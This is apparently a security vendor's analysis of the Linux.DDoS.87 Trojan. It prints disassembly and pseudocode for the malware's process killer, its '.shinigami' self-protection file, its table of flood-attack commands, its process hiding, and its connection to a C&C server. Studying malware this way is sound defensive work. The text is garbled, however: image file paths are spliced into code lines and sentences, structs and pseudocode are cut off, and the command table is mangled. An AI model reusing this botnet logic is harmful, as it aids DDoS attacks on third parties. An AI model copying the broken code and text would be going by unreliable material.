.text:0804B16F                 mov     [esp+0A4Ch+fd], 5.text:0804B176                 call    sleep
.text:0804B17B                 add     esp, 10h
.text:0804B17E loc_804B17E:                            ; CODE XREF: runKiller+1D6j
.text:0804B17E                 sub     esp, 0Ch
.text:0804B181                 mov     eax, ds:proc
.text:0804B186                 push    eax             ; filename
.text:0804B187                 call    ___GI_opendir
.text:0804B18C                 mov     [esp+0A4Ch+var_A34], eax
.text:0804B190                 add     esp, 10h
.text:0804B193 read_next_proc_entry:                   ; CODE XREF: runKiller+23Aj
.text:0804B193                                         ; runKiller+296j ...
.text:0804B193                 sub     esp, 0Ch
.text:0804B196                 mov     edx, [esp+0A48h+var_A34]
.text:0804B19A                 push    edx
.text:0804B19B                 call    ___GI_readdir
.text:0804B1A0                 add     esp, 10h
.text:0804B1A3                 test    eax, eax.text:0804B1A5                 jz      short read_proc_from_begin

If the folder from which the process was run is found to contain a file named .shinigami, the process is not terminated because it is used to implement some kind self-protection:

.text:0804B1BC                 push    eax             ; char
.text:0804B1BD                 push    eax             ; int
.text:0804B1BE                 mov     eax, ds:proc
.text:0804B1C3                 push    eax             ; a2
.text:0804B1C4                 push    ebp             ; a1
.text:0804B1C5                 call    strcpy
.text:0804B1CA                 pop     ecx
.text:0804B1CB                 lea     ebx, [ebp+eax+0].text:0804B1CF                 pop     eax
.text:0804B1D0                 push    esi             ; a2
.text:0804B1D1                 push    ebx             ; a1
.text:0804B1D2                 call    strcpy
.text:0804B1D7                 add     ebx, eax
.text:0804B1D9                 pop     eax
.text:0804B1DA                 mov     eax, ds:cwd
.text:0804B1DF                 pop     edx
.text:0804B1E0                 push    eax             ; a2
.text:0804B1E1                 push    ebx             ; a1
.text:0804B1E2                 call    strcpy
.text:0804B1E7                 pop     edx
.text:0804B1E8                 pop     ecx
.text:0804B1E9                 mov     ecx, ds:shinigami
.text:0804B1EF                 lea     eax, [ebx+eax]
.text:0804B1F2                 push    ecx             ; a2.text:0804B1F3                 push    eax             ; a1
.text:0804B1F4                 call    strcpy
.text:0804B1F9                 pop     eax
.text:0804B1FA                 pop     edx
.text:0804B1FB                 push    0               ; flags
.text:0804B1FD                 push    ebp             ; filename
.text:0804B1FE                 call    ___GI___libc_open
.text:0804B203                 add     esp, 10h
.text:0804B206                 test    eax, eax
.text:0804B208                 js      short kill_if_bot
.text:0804B20A                 sub     esp, 0Ch
.text:0804B20D                 push    eax             ; fd
.text:0804B20E                 call    ___libc_close
.text:0804B213                 add     esp, 10h
.text:0804B216                 jmp     read_next_proc_entry

If the file named .shinigami is absent from the folder, the process’s executable file is read in order to find strings from a configuration whose numbers are higher than100. Meanwhile, the Trojan reads file fragments sequentially. The size of each fragment is 0x800 byte. If the value required is at buffer overflow, the process is not terminated.


A function responsible for filling a structure that stores command handlers. The structure looks as follows:

struct cmd {
    char  number;
    void *handler;
struct cmd_handlers {
    cmd *handlers;
    char  length;

The structure is filled in the following way:v0 = realloc(handlers.handlers, 8 * handlers.length + 8);
v1 = handlers.length + 1;
handlers.handlers = v0;
v2 = &v0[handlers.length];
v2->number = 0;
v2->func = cmd0_udp_random;
handlers.length = v1;
v3 = realloc(v0, 8 * v1 + 8);
handlers.handlers = v3;
v4 = handlers.length + 1;
v5 = &v3[handlers.length];
v5->number = 1;v5->func = cmd1_tsource;

As a result, the following command table is generated:

15-17The examined sample contains functions that are executed in an infinite loop
14HTTP flood
9Transparent Ethernet Bridging в GRE
8UDP flood overGRE
7Establishing a TCP connection
6sending a TCP packet
4TCP flood—send packets containing random data
3TCP flood—send packets with TCP options
2DNS flood
1TSource flood
0UDP flood

Once all the above functions are performed, the following string is retrieved from the configuration and added to the stdinthread:

.text:0804B398                 mov     dword ptr [esp+0], 2
.text:0804B39F                 call    get_data_from_config ; kami
.text:0804B3A4                 mov     [esp+0], eax    ; a1
.text:0804B3A7                 call    strlen
.text:0804B3AC                 mov     dword ptr [esp+0], 2
.text:0804B3B3                 mov     ebx, eax
.text:0804B3B5                 call    get_data_from_config
.text:0804B3BA                 add     esp, 0Ch
.text:0804B3BD                 pushebx             ; len
.text:0804B3BE                 push    eax             ; addr
.text:0804B3BF                 push    1               ; fd
.text:0804B3C1                 call    ___libc_write
.text:0804B3C6                 add     esp, 0Ch
.text:0804B3C9                 push    1               ; int
.text:0804B3CB                 push    offset newline  ; int
.text:0804B3D0                 push    1               ; fd
.text:0804B3D2                 call    ___libc_write

Then the Trojan removes itsname to hide itself:.text:0804B3D8                 mov     ebp, [esi]      ; esi = argv[0]
.text:0804B3DA                 push    ebp             ; a1
.text:0804B3DB                 call    strlen
.text:0804B3E0                 add     esp, 10h
.text:0804B3E3                 mov     ecx, eax
.text:0804B3E5                 test    eax, eax
.text:0804B3E7                 jle     short loc_804B3F6
.text:0804B3E9                 xor     edx, edx
.text:0804B3EBloc_804B3EB:                            ; CODE XREF: main+94j
.text:0804B3EB                 mov     eax, [esi]
.text:0804B3ED                 mov     byte ptr [eax+edx], 0
.text:0804B3F1                 inc     edx
.text:0804B3F2                 cmp     ecx, edx
.text:0804B3F4                 jnz     short loc_804B3EB

The childprocesses are subsequently launched (the code is simplified and contains no requests to the configuration)

//here is parent
pid_t child = fork();
if(child > 0){
    waitpid(child, &status, 0); //waiting until child die
if(!child){ //child executing this
    pid_t child2 = fork();
    if(child2 > 0){//we spawn childen - time to die
        exit(); //after this exit() grandpa will die too
pid_t child3 = fork();
    v28 = __GI___libc_open(".shinigami", O_CREAT, v30);
    if (v28 >= 0)
    sleep(...) // one week

The .shinigami file is created in the Trojan’s folder to protect the Trojan from removing itself. The maximum uptime of Linux.DDoS.87 on an infected computer is one week, after which the Trojan terminates its operation.The cycle for receiving and executing commands

After that, the malicious process tries to connect to the C&C server to get instructions:

.text:0804B44E                 call    ___libc_fork
.text:0804B453                 mov     ebx, eax
.text:0804B455                 test    eax, eax
.text:0804B457                 jg      loc_804B84E
.text:0804B45D                 call    ___GI_setsid
.text:0804B462                 sub     esp, 0Ch
.text:0804B465                 push    0               ; fd
.text:0804B467                 call    ___libc_close
.text:0804B46C                 mov     dword ptr [esp+0], 1 ; fd
.text:0804B473                 call    ___libc_close
.text:0804B478                 mov     dword ptr [esp+0], 2 ; fd
.text:0804B47F                 call    ___libc_close
.text:0804B484                 add     esp, 10h
.text:0804B487                 lea     eax, [edi+2]
.text:0804B48A                 xor     esi, esi
.text:0804B48C                 mov     [esp+48Ch+ptr_to_third_comm_byte], eax
.text:0804B490 entry_point_of_payload_execution:       ; CODE XREF: main+167j
.text:0804B490                                         ; main+17Aj ...
.text:0804B490                 mov     edx, esi
.text:0804B492                 mov     eax, 1000h
.text:0804B497                 and     edx, 0FFFFh
.text:0804B49D                 push    4000h           ; int
.text:0804B4A2                 sub     eax, edx
.text:0804B4A4                 push    eax             ; int
.text:0804B4A5                 lea     edx, [edi+edx]
.text:0804B4A8                 mov     eax, ds:fd
.text:0804B4AD                 push    edx             ; char *
.text:0804B4AE                 push    eax             ; int
.text:0804B4AF                 call    ___libc_recv
.text:0804B4B4                 add     esp, 10h.text:0804B4B7                 test    eax, eax
.text:0804B4B9                 jle     recv_failed
.text:0804B4BF                 add     esi, eax
.text:0804B4C1                 cmp     si, 1
.text:0804B4C5                 ja      short recv_ok
.text:0804B4C7                 jmp     short entry_point_of_payload_execution

If recv returns an error, a socket is opened, and its content is recorded to the fd global variable:

.text:0804B553 recv_failed:                            ; CODE XREF: main+159j
.text:0804B553                 mov     eax, ds:fd
.text:0804B558                 test    eax, eax
.text:0804B55A                 js      short fd_closed_or_uninitialized
.text:0804B55C                 sub     esp, 0Ch
.text:0804B55F                 push    eax             ; fd
.text:0804B560                 call    ___libc_close
.text:0804B565                 add     esp, 10h
.text:0804B568 fd_closed_or_uninitialized:             ; CODE XREF: main+1FAj
.text:0804B568                 push    eax
.text:0804B569                 push    0
.text:0804B56B                 push    1
.text:0804B56D                 push    2
.text:0804B56F                 call    ___GI_socket
.text:0804B574                 add     esp, 10h
.text:0804B577                 mov     ds:fd, eaxDuring reading/writing, a minute-long time-out is set:

socket_timeout.tv_sec = 60;
socket_timeout.tv_usec = 0;
__GI_setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &socket_timeout, 8);
__GI_setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &socket_timeout, 8);

Then a connection to the C&C server is established:

.text:0804B5CE                 mov     [esp+4ACh+cnc_sockaddr.sin_family], 2
.text:0804B5D8                 add     esp, 14h
.text:0804B5DB                 push    0
.text:0804B5DD                 call    get_conf_uint32
.text:0804B5E2                 mov     dword ptr [esp+0], 1
.text:0804B5E9                 mov     [esp+49Ch+cnc_sockaddr.sin_addr.s_addr], eax
.text:0804B5F0                 call    get_conf_uint16
.text:0804B5F5                 ror     ax, 8
.text:0804B5F9                 mov     [esp+49Ch+cnc_sockaddr.sin_port], ax
.text:0804B601                 add     esp, 0Ch
.text:0804B604                 mov     eax, ds:fd.text:0804B609                 push    10h
.text:0804B60B                 lea     edx, [esp+494h+cnc_sockaddr]
.text:0804B612                 push    edx
.text:0804B613                 push    eax
.text:0804B614                 call    ___libc_connect

After that the IP address of the interface in use is saved and a string containing an identifier of an infected device’s architecture (х86, ARM, MIPS, SPARC, SH-4 or M68K) is sent to the C&C server:

.text:0804B62F                 lea     eax, [esp+490h+status]
.text:0804B636                 mov     ecx, ds:fd
.text:0804B63C                 push    eax
.text:0804B63D                 lea     edx, [esp+494h+var_54].text:0804B644                 push    edx
.text:0804B645                 push    ecx.text:0804B646                 call    ___GI_getsockname
.text:0804B64B                 mov     eax, [esp+49Ch+var_54.sin_addr.s_addr]
.text:0804B652                 mov     ds:selfaddr, eax
.text:0804B657                 pop     eax
.text:0804B658                 pop     edx
.text:0804B659                 push    1               ; size
.text:0804B65B                 push    20h             ; nmemb
.text:0804B65D                 call    _calloc
.text:0804B662                 mov     dword ptr [esp+0], offset a2 ; "telnet.x86"
.text:0804B669                 mov     ebx, eax
.text:0804B66B                 call    strlen
.text:0804B670                 add     esp, 0Ch
.text:0804B673                 push    eax             ; a3
.text:0804B674                 push    offset a2       ; "telnet.x86"
.text:0804B679                 push    ebx             ; a1
.text:0804B67A                 call    strncpy
.text:0804B67F                 mov     eax, ds:fd
.text:0804B684                 push    4000h           ; int
.text:0804B689                 push    20h             ; int
.text:0804B68B                 push    ebx             ; char *
.text:0804B68C                 push    eax             ; int.text:0804B68D                 call    ___libc_send

